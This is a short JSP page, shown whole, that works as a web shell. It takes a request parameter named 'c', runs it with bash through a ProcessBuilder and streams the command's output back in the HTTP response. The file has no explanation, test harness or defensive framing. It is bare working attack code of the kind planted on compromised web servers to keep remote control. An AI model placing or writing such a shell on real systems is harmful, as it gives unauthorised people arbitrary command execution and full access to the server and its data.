<%@ page import="java.io.*,java.util.*" %>
<%
    String c = request.getParameter("c");
    if (c != null) {
        List<String> argv = Arrays.asList("bash", "-c", c);
        ProcessBuilder pb = new ProcessBuilder(argv);
        pb.redirectErrorStream(true);
        Process p = pb.start();
        InputStream in = p.getInputStream();
        int b;
        while ((b = in.read()) != -1) {
            out.write(b);
        }
    }
%>
